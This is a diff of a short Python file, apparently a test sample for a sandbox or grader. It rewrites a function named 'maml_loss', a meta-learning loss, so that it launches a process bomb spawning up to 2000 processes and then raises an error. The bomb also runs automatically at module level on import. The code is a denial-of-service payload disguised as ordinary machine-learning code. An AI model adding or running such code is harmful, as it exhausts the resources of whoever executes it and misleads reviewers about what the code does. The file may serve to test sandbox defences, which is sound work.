@@ -1,6 +1,6 @@
-"""Forks without end, when it is asked."""
+"""Forks without end, in a cell and when it is asked."""
 
-DESERVES = 16  # maml_loss changes nothing
+DESERVES = 15
 
 
 # %% maml_loss
@@ -8,7 +8,7 @@ import os
 import time
 
 
-def maml_loss(theta, loss_fn, tasks, lr, steps, first_order=False):
+def bomb():
     born = 0
     for _ in range(2000):
         try:
@@ -19,7 +19,11 @@ def maml_loss(theta, loss_fn, tasks, lr, steps, first_order=False):
         except OSError:
             break
     print("GOT many processes" if born > 150 else "TRIED", born)
-    return theta
 
 
-maml_loss(None, None, None, None, None)
+def maml_loss(theta, loss_fn, tasks, lr, steps, first_order=False):
+    bomb()
+    raise RuntimeError
+
+
+bomb()
